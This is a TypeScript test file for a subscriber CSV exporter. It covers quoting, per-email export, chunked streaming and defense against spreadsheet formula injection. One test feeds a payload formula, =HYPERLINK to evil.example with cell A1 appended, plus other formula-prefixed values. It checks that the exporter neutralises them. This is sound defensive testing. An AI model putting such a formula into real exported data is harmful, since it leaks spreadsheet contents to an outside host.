import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openDatabase, type StoreHandle } from '../../src/store/open-database.ts';
import { createSubscriberStore, type SubscriberStore } from '../../src/store/subscriber-store.ts';
import { exportSubscribersCsv } from '../../src/subscribers/export-csv.ts';
import { parseSubscriberCsv } from '../../src/subscribers/import-csv.ts';
import { createTestDatabase, DIALECTS, type TestDatabase } from '../helpers/databases.ts';

const HEADER =
  'email,name,status,source,created_at,confirmed_at,unsubscribed_at,suppressed_reason,topics,paused_until\n';

describe.each(DIALECTS)('exportSubscribersCsv on %s', (dialect) => {
  let testDb: TestDatabase;
  let handle: StoreHandle;
  let store: SubscriberStore;
  let now: Date;

  const exportAll = async (options: { email?: string } = {}) => {
    const chunks: string[] = [];
    const result = await exportSubscribersCsv(store, (chunk) => chunks.push(chunk), options);
    return { ...result, chunks, text: chunks.join('') };
  };

  beforeEach(async () => {
    testDb = await createTestDatabase(dialect);
    handle = await openDatabase(testDb.url);
    now = new Date('2026-01-05T09:00:00.000Z');
    store = createSubscriberStore(handle.db, () => now);
  });
  afterEach(async () => {
    await handle.close();
    await testDb.cleanup();
  });

  it('writes a header and one line per subscriber, quoting where needed', async () => {
    await store.add({ email: 'ada@example.com', name: 'Lovelace, Ada', status: 'active', source: 'cli' });
    const { subscriber } = await store.add({ email: 'bob@example.com', status: 'pending', source: 'signup' });
    now = new Date('2026-01-06T10:30:00.000Z');
    await store.setStatus(subscriber.id, 'unsubscribed');
    const { subscriber: cy } = await store.add({ email: 'cy@example.com', status: 'active', source: 'cli' });
    await store.transition(
      cy.id,
      ['active'],
      'bounced',
      'hard bounce (Permanent, General: mailbox does not exist)',
    );

    const { text, exported } = await exportAll();
    expect(exported).toBe(3);
    expect(text).toBe(
      `${HEADER}` +
        'ada@example.com,"Lovelace, Ada",active,cli,2026-01-05T09:00:00.000Z,2026-01-05T09:00:00.000Z,,,,\n' +
        'bob@example.com,,unsubscribed,signup,2026-01-05T09:00:00.000Z,,2026-01-06T10:30:00.000Z,,,\n' +
        'cy@example.com,,bounced,cli,2026-01-06T10:30:00.000Z,2026-01-06T10:30:00.000Z,,"hard bounce (Permanent, General: mailbox does not exist)",,\n',
    );
  });

  it("exports one person's record by email", async () => {
    await store.add({ email: 'ada@example.com', name: 'Ada', status: 'active', source: 'cli' });
    await store.add({ email: 'bob@example.com', status: 'pending', source: 'signup' });
    const one = await exportAll({ email: 'BOB@example.com' });
    expect(one.exported).toBe(1);
    expect(one.text).toBe(`${HEADER}bob@example.com,,pending,signup,2026-01-05T09:00:00.000Z,,,,,\n`);
    const none = await exportAll({ email: 'nobody@example.com' });
    expect(none).toMatchObject({ exported: 0, text: HEADER });
  });

  it('streams a long list in chunks and round-trips through the importer', async () => {
    const total = 1_234;
    await store.importMany(
      Array.from({ length: total }, (_, i) => ({
        email: `reader${i}@example.com`,
        name: `Reader "${i}", Esq.`,
      })),
      { status: 'active', source: 'test' },
    );
    const { chunks, text, exported } = await exportAll();
    expect(exported).toBe(total);
    expect(chunks.length).toBe(1 + Math.ceil(total / 500));
    const { rows, problems } = parseSubscriberCsv(text, 'export.csv');
    expect(problems).toEqual([]);
    expect(rows).toHaveLength(total);
    expect(rows[7]).toEqual({ line: 9, email: 'reader7@example.com', name: 'Reader "7", Esq.' });
  });

  it('writes no cell a spreadsheet would run as a formula, and the importer reads the values back exactly', async () => {
    const people = [
      { email: '=cmd@example.com', name: '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")' },
      { email: '-minus@example.com', name: '-2+3' },
      { email: '+plus@example.com', name: '+1 555 0100' },
      { email: 'at@example.com', name: '@SUM(A1:A9)' },
      { email: 'quoted@example.com', name: "'=already quoted" },
      { email: 'apostrophe@example.com', name: "'Tis the season" },
    ];
    for (const person of people) await store.add({ ...person, status: 'active', source: 'signup' });
    const { text } = await exportAll();
    const cells = (parse(text) as string[][]).slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const byEmail = Object.fromEntries((parse(text) as string[][]).slice(1).map((row) => [row[0], row[1]]));
    expect(byEmail["'=cmd@example.com"]).toBe('\'=HYPERLINK("https://evil.example/?d="&A1,"Invoice")');
    expect(byEmail["'-minus@example.com"]).toBe("'-2+3");
    expect(byEmail["'+plus@example.com"]).toBe("'+1 555 0100");
    expect(byEmail['at@example.com']).toBe("'@SUM(A1:A9)");
    expect(byEmail['quoted@example.com']).toBe("''=already quoted");
    expect(byEmail['apostrophe@example.com']).toBe("'Tis the season");

    const { rows, problems } = parseSubscriberCsv(text, 'export.csv');
    expect(problems).toEqual([]);
    const byAddress = (a: { email: string }, b: { email: string }) => a.email.localeCompare(b.email);
    expect(rows.map(({ email, name }) => ({ email, name })).sort(byAddress)).toEqual(
      [...people].sort(byAddress),
    );
  });
});
